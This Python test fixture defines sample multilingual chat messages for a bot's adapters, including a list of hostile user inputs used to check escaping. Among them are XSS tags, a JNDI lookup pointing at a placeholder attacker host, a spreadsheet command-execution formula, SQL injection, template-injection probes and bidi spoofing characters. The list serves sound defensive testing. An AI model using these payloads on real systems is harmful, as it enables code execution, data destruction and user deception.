"""Messages every adapter has to deliver: each kind of block, three languages, long ones, and people's words at their worst."""

from __future__ import annotations

from bot.chat.message import (
    Audience,
    Button,
    Buttons,
    Choices,
    Entry,
    Form,
    FormField,
    Image,
    Message,
    Option,
    Paragraph,
    ProgressBar,
    Tone,
)
from bot.chat.richtext import Span, Style, bold, clean, join, words

INJECTIONS = tuple(
    clean(text)
    for text in (
        "<script>alert(1)</script><img src=x onerror=alert(1)>",
        '<a href="tg://user?id=1">click</a> <b>bold',
        "<!channel> <!here> <@U024BE7LH> <!subteam^S1> <#C1|general> <https://evil.example|bank>",
        "@all @everyone @channel @an @所有人 @tất_cả",
        "[click](dingtalk://dingtalkclient/page/link?url=http%3A%2F%2Fevil.example) ![](http://evil.example/pixel.png)",
        "*bold* _it_ ~gone~ `code` ```block``` > quote\n# Heading\n- list\n1. one",
        "\\*not\\* \\_markup\\_ || spoiler || __under__ --- *** ===",
        "https://evil.example/?a=1&b=2#c www.evil.example mailto:an@evil.example tel:+84123456789",
        "&lt;b&gt; &amp;amp; &#60;script&#62; %3Cscript%3E \\u003cscript\\u003e",
        "{{7*7}} {% raw %} ${jndi:ldap://evil.example} #{7*7} %s %(name)s {0} {name}",
        "'; DROP TABLE outbox; -- \" OR 1=1 /* */",
        "=cmd|' /C calc'!A0 +1+1 -1 @SUM(A1)",
        "/start /okr help /cancel\n/stop",
        "]]> --> </p></div></body></html> </textarea> </title>",
        "a\"b'c`d\\e</f>g&h\ti",
        "\u202egnp.exe\u202c \u2067مرحبا\u2069 שלום \u200b\u200d\ufeff",
        "👩‍👩‍👧‍👦 🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f 🇻🇳 1️⃣ e\u0301 \u1ec7 Z\u0337\u0327a\u0338",
        "data: x\nevent: restart\nid: 9\n\nretry: 0",
        "null undefined NaN true 0 -0 1e309 []{}",
        "a\u0000b\u0007c\u001b[31md\u2028e\u0085f",
    )
)
"""As they are after `clean`, which everything people type passes: what is left has to be shown, letter by letter."""

ENGLISH = Message(
    (
        Paragraph(
            join(
                (words("Last week "), bold("38"), words(", expected by now "), ((Span("41", Style.CODE),)), words(". And today?"))
            )
        ),
        Choices((Option("Still 38", "a.s1.4.same"), Option("Skip this one", "a.s1.4.skip", "ask me next week"))),
        Buttons((Button("Help", "d.help.", "help"), Button("Home", "d.home.", "home", Tone.PRIMARY))),
    ),
    "en",
)
VIETNAMESE = Message(
    (
        Paragraph(words("Tôi hiểu là: NPS · hiện tại 30 → mục tiêu 50 · tăng ✓")),
        ProgressBar("Khách hàng yêu dịch vụ của chúng ta", 0.62, 0.7, "▲6 · có rủi ro"),
        Paragraph(words("Bạn có thể dừng bất cứ lúc nào."), is_quiet=True),
        Choices(
            (
                Option("Đúng rồi", "a.s1.5.yes", tone=Tone.PRIMARY),
                Option("Sửa số", "a.s1.5.number"),
                Option("Bỏ", "a.s1.5.no", tone=Tone.DANGER),
            )
        ),
    ),
    "vi",
    slot="s1:5",
)
CHINESE = Message(
    (
        Paragraph((Span("🆘 "), Span("陈安", Style.BOLD), Span(" 需要帮助 · 关键结果「NPS 30 → 50」目前 34,预期 41"))),
        Paragraph((Span("“客服只有两个人,周末没人接。”", Style.ITALIC),)),
        Image("charts/nps.png", "NPS 十三周走势:30 到 34"),
        Buttons((Button("加资源", "d.help.add", "加资源"), Button("聊一聊", "d.help.talk", "聊一聊"))),
    ),
    "zh",
    audience=Audience.GROUP,
)
FORM = Message(
    (
        Paragraph(words("15 seconds for two numbers")),
        Form(
            (
                FormField("nps/value", "NPS today", value="38", placeholder="a number"),
                FormField("nps/note", "What is in the way?", Entry.LINES, is_required=False),
                FormField(
                    "nps/confidence",
                    "How sure are you?",
                    Entry.CHOICE,
                    options=(Option("On track", "on track"), Option("At risk", "at risk"), Option("Off track", "off track")),
                    problem="Choose one of the three.",
                ),
            ),
            "a.s1.6.~",
            "Send",
        ),
    ),
    "en",
)
MANY = Message(
    (
        Paragraph(words("Which of these does it serve?")),
        Choices(
            tuple(Option(f"Objective number {number} – Phòng Tiếp thị 市场部", f"a.s1.7.{number}", "An") for number in range(40))
        ),
    ),
    "en",
)
TICKS = Message(
    (
        Paragraph(words("选几个")),
        Choices((Option("周一", "a.s1.8.1"), Option("周二", "a.s1.8.2"), Option("周三", "a.s1.8.3")), many=True),
    ),
    "zh",
)
LONG = Message(
    tuple(
        Paragraph(words(f"{number}. Khách hàng yêu dịch vụ của chúng ta – 客户喜欢我们的服务 👩‍💻. " * 12))
        for number in range(12)
    ),
    "vi",
)
ENDLESS_WORD = Message((Paragraph(words("x" * 9000)), Paragraph(words("界" * 9000)), Paragraph(words("👩‍👩‍👧‍👦" * 900))), "en")
BARE_CHOICES = Message((Choices((Option("Yes", "a.s1.9.y"), Option("No", "a.s1.9.n"))),), "en")
LINKED = Message((Paragraph((Span("Your board is "), Span("here", link="/board"), Span("."))),), "en")
QUOTED = tuple(
    Message(
        (
            Paragraph(join((words("An: "), words(text)))),
            Choices((Option(text[:60] or "-", "a.s1.10.1", text[:80]), Option("No", "a.s1.10.2"))),
            ProgressBar(text[:80], 0.3, None, text[:40]),
            Image("charts/x.png", text or "-"),
        ),
        "en",
    )
    for text in INJECTIONS
)

SAMPLES: tuple[Message, ...] = (
    ENGLISH,
    VIETNAMESE,
    CHINESE,
    FORM,
    MANY,
    TICKS,
    LONG,
    ENDLESS_WORD,
    BARE_CHOICES,
    LINKED,
    *QUOTED,
)
